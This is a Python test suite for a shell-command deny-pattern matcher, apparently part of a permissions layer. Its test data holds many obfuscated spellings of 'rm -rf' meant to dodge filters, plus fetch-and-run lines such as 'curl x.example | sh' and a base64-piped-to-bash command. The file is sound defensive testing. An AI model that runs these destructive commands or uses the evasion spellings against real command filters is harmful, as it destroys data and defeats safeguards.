"""Blacklist patterns are hard to dodge, and do not fire on text that only mentions them."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shared.permissions.deny_pattern import DenyPattern, Hit, ShellLine

RM = DenyPattern.of("rm -rf *")

CAUGHT = [
    *("echo rm -rf x | sh", "PAGER='rm -rf x' man ls", "awk 'BEGIN{system(\"rm -rf x\")}'"),
    "python3 -c 'import os; os.system(\"rm -rf x\")'",
    *("rm -rf x", "/bin/rm  -rf ~", "./rm -rf x", "r''m -rf x", "'rm' '-rf' x", "r\\m -rf x", "\\rm -rf x", "RM -rf x"),
    *(
        "true; rm -rf x",
        "true && rm -rf x",
        "false || rm -rf x",
        "true | rm -rf x",
        "true & rm -rf x",
        "true\nrm -rf x",
    ),
    *(
        "$(rm -rf x)",
        "`rm -rf x`",
        'echo "$(rm -rf x)"',
        "cat <(rm -rf x)",
        "X=$(rm -rf x)",
        "(rm -rf x)",
        "{ rm -rf x; }",
    ),
    *("rm -fr x", "rm -r -f x", "rm --recursive --force x", "rm -rfv x", "rm x -rf", "rm -R -f x"),
    *(
        "sudo rm -rf x",
        "env A=1 rm -rf x",
        "A=1 rm -rf x",
        "nohup rm -rf x &",
        "timeout 5 rm -rf x",
        "command rm -rf x",
    ),
    *("sh -c 'rm -rf x'", 'bash -c "true; rm -rf x"', "eval rm -rf x", "eval 'rm -rf x'", "echo 'rm -rf x' | sh"),
    *(
        "find . -exec rm -rf {} \\;",
        "xargs rm -rf x",
        "time -p rm -rf x",
        "watch -n1 'rm -rf x'",
        "ssh host 'rm -rf x'",
    ),
    *(
        "rm${IFS}-rf${IFS}x",
        "rm$IFS-rf x",
        "a=rm; $a -rf x",
        "{rm,-rf,x}",
        "$'\\x72m' -rf x",
        "r$@m -rf x",
        "${y:-rm} -rf x",
    ),
    *("if true; then rm -rf x; fi", "while true; do rm -rf x; done", "! rm -rf x", "case x in x) rm -rf y;; esac"),
    *(
        "f() { rm -rf x; }; f",
        "2>/dev/null rm -rf x",
        "rm>out -rf x",
        "rm\t-rf\tx",
        "rm \\\n-rf x",
        "\uff52\uff4d -rf x",
        "r\u200bm -rf x",
    ),
]

UNKNOWN = [
    *(
        "$(echo rm) -rf x",
        "$X -rf x",
        "r${x}m -rf x",
        "/bin/r? -rf x",
        "curl x.example | sh",
        "rm $FLAGS x",
        "rm -$F x",
    ),
    "base64 -d <<<cm0= | bash",
]

HARMLESS = [
    *(
        "git commit -m 'rm -rf x'",
        "ls",
        "rm x",
        "git rm -r f",
        "grep -rf x",
        "bash build.sh",
        "echo $HOME",
        "make && make test",
    ),
    *('git commit -m "$(date)"', "python x.py $ARGS", "true # rm -rf x", "rmdir -rf x", "echo 'a; rm -rf b'"),
]


@pytest.mark.parametrize("line", CAUGHT)
def test_every_spelling_is_caught(line: str) -> None:
    assert RM.hit(ShellLine.of(line)) is Hit.YES


@pytest.mark.parametrize("line", UNKNOWN)
def test_what_only_the_shell_knows_is_in_doubt(line: str) -> None:
    assert RM.hit(ShellLine.of(line)) is Hit.MAYBE


@pytest.mark.parametrize("line", HARMLESS)
def test_other_commands_are_left_alone(line: str) -> None:
    assert RM.hit(ShellLine.of(line)) is Hit.NO


@pytest.mark.parametrize(
    ("pattern", "line"),
    [
        ("/bin/rm *", "rm x"),
        ("*--force*", "git push --force"),
        ("git push --force*", "true; git  push --force origin"),
        ("curl *|*sh", "curl x | sh"),
        ("dd *", "sudo dd if=a of=b"),
    ],
)
def test_other_patterns(pattern: str, line: str) -> None:
    assert DenyPattern.of(pattern).hit(ShellLine.of(line)) is Hit.YES


def test_nesting_and_length_have_an_end_and_leave_doubt() -> None:
    for line in (
        "$(" * 50 + "rm -rf x",
        "eval " * 50 + "ls",
        "x " * 40_000,
        "xargs " + "a " * 5_000,
        "`" * 999,
        "{a,b}" * 40,
    ):
        assert RM.hit(ShellLine.of(line)) in (Hit.MAYBE, Hit.NO, Hit.YES)
    assert RM.hit(ShellLine.of("$(" * 50 + "ls" + ")" * 50)) is Hit.MAYBE


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=80))
def test_no_line_breaks_the_reader(line: str) -> None:
    assert RM.hit(ShellLine.of(line)) in Hit


@settings(max_examples=300, deadline=None)
@given(
    before=st.sampled_from(["true", "echo 'a b'", "cd /x", 'ls -l "q"', "git log --format='%H'"]),
    joint=st.sampled_from([";", " && ", "|", "\n", " || ", "&", " ; ("]),
    blank=st.sampled_from([" ", "  ", "\t", " \\\n "]),
    quotes=st.sampled_from(["{}", "'{}'", '"{}"', "/usr/bin/{}", "\\{}", "$'{}'"]),
)
def test_a_command_after_any_joint_is_caught(before: str, joint: str, blank: str, quotes: str) -> None:
    line = f"{before}{joint}{quotes.format('rm')}{blank}-rf{blank}x"
    assert RM.hit(ShellLine.of(line)) is Hit.YES
